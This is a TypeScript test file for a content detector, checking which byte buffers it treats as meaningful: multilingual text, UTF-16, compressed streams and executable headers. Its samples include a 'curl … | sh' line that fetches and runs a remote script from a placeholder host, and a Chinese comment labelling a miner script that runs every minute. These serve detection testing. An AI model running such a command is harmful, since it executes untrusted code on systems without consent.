import { readFileSync } from 'node:fs';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { isMeaningful, mayBeMeaningful, readsAsTextAround } from './plain-content.ts';

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

const meaningful: [string, Uint8Array][] = [
  ['a command', ascii('curl http://a.example.com | sh')],
  ['German', ascii('Grüße aus der Grube: Fördermaschinen laufen überall')],
  ['Chinese', ascii('# 矿工脚本，每分钟运行一次，请勿删除')],
  ['UTF-16LE', Buffer.from('Start-Process notepad.exe', 'utf16le')],
  ['UTF-16BE', Buffer.from('Start-Process notepad.exe', 'utf16le').swap16()],
  ['gzip', gzipSync('text')],
  ['zlib', deflateSync('text')],
  ['this program', readFileSync(process.execPath).subarray(0, 4096)],
];

describe('isMeaningful', () => {
  it.each(meaningful)('knows %s, also by its first bytes', (_name, bytes) => {
    expect(isMeaningful(bytes)).toBe(true);
    expect(mayBeMeaningful(bytes.subarray(0, 72))).toBe(true);
  });

  it.each([
    ['nothing', new Uint8Array()],
    ['zeros', new Uint8Array(1000)],
    ['blanks', ascii(' '.repeat(100))],
    ['a ruler', ascii('-=-=-='.repeat(20))],
    ['a word', ascii('hello')],
    ['compressed bytes without a mark', brotliCompressSync(readFileSync(process.execPath).subarray(0, 9999))],
    ['bytes in order', Uint8Array.from({ length: 256 }, (_, i) => i)],
    ['MZ and text', ascii('MZ is not always a program but may be a pair of letters\u0001\u0002\u0003')],
  ])('takes %s for nothing', (_name, bytes) => {
    expect(isMeaningful(bytes)).toBe(false);
  });

  it('takes noise for nothing, but once in many thousand times', () => {
    let state = 7;
    const next = (): number => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      return state >>> 24;
    };
    let count = 0;
    for (let i = 0; i < 20_000; i++) if (isMeaningful(Uint8Array.from({ length: 18 + (i % 60) }, next))) count++;
    expect(count).toBeLessThanOrEqual(2);
  });
});

describe('readsAsTextAround', () => {
  it('asks only what stands near', () => {
    const bytes = Uint8Array.from([
      ...new Uint8Array(40),
      ...ascii('  words, a text and more words  '),
      ...new Uint8Array(40),
    ]);
    expect(readsAsTextAround(bytes, 55, 61)).toBe(true);
    expect(
      readsAsTextAround(
        Uint8Array.from({ length: 60 }, (_, i) => i * 37),
        20,
        26,
      ),
    ).toBe(false);
  });
});
